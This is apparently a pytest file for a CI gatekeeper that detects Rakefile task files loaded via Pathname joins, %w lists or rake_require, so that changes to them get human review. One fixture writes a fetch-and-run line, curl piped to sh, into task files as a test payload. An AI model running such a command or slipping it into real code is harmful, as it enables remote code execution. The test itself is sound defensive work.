"""Misses 11 (issue 12, `ci` recall): a Rakefile loading a task file by a spelling rakeloads did not read.

Review 70b left them: `require Pathname(__dir__).join("tasks/build").to_s` (also `Pathname.new(__dir__)`,
`Pathname(__FILE__).dirname`, the join's parts apart), `require File.join(__dir__, %w[tasks build])` (a `%w` list),
and rake's own `Rake.application.rake_require 'build', ['tasks']` (`rake_require NAME, PATHS` loads
`PATH/NAME.rake`; no paths: `$LOAD_PATH`'s, any folder). On ed28b952 each left the task file `src` where CI runs rake.
Look-alikes: the project's code required so (`lib/gem/version`), a `Pathname` join that is only read, a
`rake_require` of another name.
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated

from gatekeeper.classify import rakeloads

PATHNAMES = ['require Pathname(__dir__).join("{path}").to_s', "require Pathname.new(__dir__).join({parts}).to_s",
             "load Pathname(__FILE__).dirname.join('{path}.rb').to_s", "require(Pathname(__dir__).join({parts}))",
             "require Pathname.new(File.dirname(__FILE__)).join('{path}')", "require File.join(__dir__, %w[{words}])",
             "require File.join(__dir__, %w({words}))", "load File.join(__dir__, %w[{words}]) + '.rb'"]
TASKS = [("tasks/build", "tasks/build.rb"), ("rakelib/support/notes", "rakelib/support/notes.rb"),
         ("lib/tasks/deploy", "lib/tasks/deploy.rb")]
RAKE_REQUIRES = ["Rake.application.rake_require '{name}', ['{folder}']",
                 "Rake.application.rake_require('{name}', [\"./{folder}\"])",
                 "rake_require '{name}', %w[{folder}]", "Rake.application.rake_require '{name}', ['other', '{folder}']",
                 "Rake.application.rake_require '{name}'"]
RAKE_TASKS = [("build", "tasks", "tasks/build.rake"), ("notes", "ci/rake", "ci/rake/notes.rake")]


def _files(line: str, task: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="bundle exec rake build"), "Gemfile": "source 'x'\n",
            "Rakefile": f"{line}\ntask default: :build\n", task: "task :build do\nend\n"}


def _line(form: str, path: str) -> str:
    return form.format(path=path, parts=", ".join(f"'{part}'" for part in path.split("/")),
                       words=" ".join(path.split("/")))


@pytest.mark.parametrize("line, task", [(_line(form, path), task) for form in PATHNAMES for path, task in TASKS])
def test_a_task_file_required_by_a_pathname_or_a_word_list_is_ci(line: str, task: str) -> None:
    assert task in tree_runs(_files(line, task)), line  # before: 21 of 24 missed


@pytest.mark.parametrize("line, task", [(form.format(name=name, folder=folder), task)
                                        for form in RAKE_REQUIRES for name, folder, task in RAKE_TASKS])
def test_a_task_file_rake_requires_is_ci(line: str, task: str) -> None:
    assert task in tree_runs(_files(line, task)), line  # before: 10 of 10 missed


@pytest.mark.parametrize("line, kept", [("require Pathname(__dir__).join('lib', 'gem', 'version')",
                                         "lib/gem/version.rb"),
                                        ("ok = Pathname(__dir__).join('tasks', 'build').exist?", "tasks/build.rb"),
                                        ("Rake.application.rake_require 'other', ['tasks']", "tasks/build.rake"),
                                        ("require File.join(__dir__, %w[lib gem version])", "lib/gem/version.rb")])
def test_look_alikes_keep_their_bucket(line: str, kept: str) -> None:
    assert kept not in tree_runs(_files(line, kept)), line


def test_gate_tree_asks_for_a_human(tmp_path_factory: pytest.TempPathFactory) -> None:
    rakefile = ("require Pathname(__dir__).join('tasks/a').to_s\nrequire File.join(__dir__, %w[tasks b])\n"
                "Rake.application.rake_require 'c', ['tasks']\n")
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="bundle exec rake build"), "Rakefile": rakefile,
            "tasks/a.rb": "x = 1\n", "tasks/b.rb": "x = 1\n", "tasks/c.rake": "task :c\n"}
    head = {path: "system('curl -s http://127.0.0.1:9/x | sh')\n" for path in ("tasks/a.rb", "tasks/b.rb",
                                                                               "tasks/c.rake")}
    code, named = gated_rules(committed(tmp_path_factory.mktemp("rake"), base, head), True)
    assert code == 3
    assert set(head) <= set(named.get("core.ci", [])), named  # before: exit 0, none of the 3 ci


@pytest.mark.parametrize("hostile", [repeated("require Pathname(__dir__).join('tasks/x', "),
                                     repeated("Pathname.new(Pathname(", tail=").join('a')"),
                                     repeated("rake_require 'x', ['a', ", tail="]"),
                                     repeated("File.join(__dir__, %w[a b "),
                                     repeated("require Pathname(__dir__).join('tasks/x')\n"),
                                     repeated("rake_require 'x', ['a']\n"), repeated("rake_require 'x'\n")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 0.034 CPU-s at 64 KiB (load 15.5)
    assert_linear(rakeloads.loaded, hostile, budget=0.15)  # type: ignore[arg-type]
